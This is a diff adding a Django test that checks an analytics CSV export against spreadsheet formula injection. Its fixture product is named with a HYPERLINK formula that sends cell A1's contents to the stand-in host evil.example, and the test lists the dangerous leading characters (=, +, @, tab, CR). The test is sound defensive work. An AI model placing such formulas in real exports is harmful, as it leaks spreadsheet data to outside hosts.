@@ -1214,3 +1214,28 @@ def test_lines_at_one_place_record_what_the_place_held_before_each(
     assert on_hand(stocked, sf) == 98
     for d in rows:
         assert_posted(d)
+
+
+def test_the_analytics_csv_does_not_hand_a_spreadsheet_formulas(org, store, client_for):
+    """A product named (or categorised) like a formula is text in the CSV, not a formula a
+    spreadsheet runs when an admin opens the export; figures stay numbers."""
+    from django.utils import timezone
+
+    evil = ProductFactory(
+        org=org,
+        sku="EVIL",
+        name='=HYPERLINK("http://evil.example/?"&A1,"open")',
+        category="@SUM(1+1)",
+        default_cost=D("1"),
+    )
+    record(org, store, evil, expected="10", actual="6")
+    today = timezone.now().date().isoformat()
+    response = client_for(A).get(f"{BASE}/analytics?from={today}&to={today}&format=csv")
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    product = next(r for r in rows if r["section"] == "top_product")
+    assert product["name"] == "'" + evil.name and product["category"] == "'@SUM(1+1)"
+    assert product["abs_variance"] == "4.0000" and product["sku"] == "EVIL"
+    for row in rows:
+        for column, value in row.items():
+            assert not (value or "").startswith(("=", "+", "@", "\t", "\r")), (column, value)
